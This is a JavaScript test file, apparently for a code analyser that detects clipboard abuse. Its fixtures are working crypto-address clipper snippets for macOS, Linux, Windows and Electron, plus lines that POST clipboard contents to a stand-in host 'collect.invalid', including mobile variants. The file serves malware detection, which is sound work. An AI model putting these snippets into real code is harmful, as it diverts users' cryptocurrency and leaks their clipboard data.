import assert from 'node:assert/strict';
import { behavioursOf, flowsOf } from './sent.js';

const OWN = "'0x71C7656EC7ab88b098defB751B7401B5f6d8976F'";
const REPLACED = ['replaces-addresses import'];

describe('the clipboard', () => {
  for (const code of [
    `setInterval(() => { const t = cp.execSync('pbpaste').toString(); if (/^0x/.test(t)) cp.execSync('pbcopy', { input: ${OWN} }); }, 800);`,
    `const rules = [[/^0x[0-9a-f]{40}$/i, ${OWN}]]; setInterval(() => { const t = String(cp.execSync('xclip -o'));
      for (const [re, to] of rules) if (re.test(t)) { const c = cp.spawn('xclip', ['-i']); c.stdin.end(to); } }, 800);`,
    `cp.exec('powershell Get-Clipboard', (e, t) => { if (/^0x/.test(t)) cp.exec('powershell Set-Clipboard ' + ${OWN}); });`,
    `const { clipboard } = require('electron'); setInterval(() => { if (/^0x/.test(clipboard.readText())) clipboard.writeText(${OWN}); }, 500);`,
    `const by = { eth: [/0x[a-f0-9]{40}/, ${OWN}], btc: [/bc1[a-z0-9]{39}/, 'bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq'] };
      setInterval(() => { let t = cp.execFileSync('pbpaste', { encoding: 'utf8' }); for (const k in by) t = t.replace(by[k][0], by[k][1]);
        cp.execFileSync('pbcopy', { input: t }); }, 1000);`,
  ])
    it(`has an address put into it by ${code}`, () => {
      assert.deepEqual([...new Set(behavioursOf(code))], REPLACED);
    });

  it('is read and sent by programs of the system, too', () => {
    const code = `setInterval(() => fetch('https://collect.invalid', { method: 'POST', body: cp.execSync('pbpaste').toString() }), 800);`;
    assert.deepEqual(flowsOf(code), ['clipboard>network@collect.invalid']);
  });

  it('is that of a phone, too', () => {
    const code = (read: string) =>
      `setInterval(async () => fetch('https://collect.invalid', { method: 'POST', body: ${read} }), 800);`;
    for (const read of [
      `await require('@react-native-clipboard/clipboard').default.getString()`,
      `await require('react-native').Clipboard.getString()`,
      `await require('expo-clipboard').getStringAsync()`,
      `(await require('@capacitor/clipboard').Clipboard.read()).value`,
    ])
      assert.deepEqual(flowsOf(code(read)), ['clipboard>network@collect.invalid'], read);
    for (const asked of [
      `await require('expo-clipboard').hasStringAsync()`,
      `require('@react-native-clipboard/clipboard').default.setString('x')`,
    ])
      assert.deepEqual(flowsOf(code(asked)), [], asked);
  });

  it('may be given what a command line prints, or be shown', () => {
    for (const code of [
      `exports.copy = (text) => { const c = cp.spawn('pbcopy'); c.stdin.end(text); };`,
      `cp.execSync('pbcopy', { input: ${OWN} });`,
      `exports.paste = () => cp.execSync('pbpaste').toString();`,
    ]) {
      assert.deepEqual(behavioursOf(code), [], code);
      assert.deepEqual(flowsOf(code), [], code);
    }
  });
});
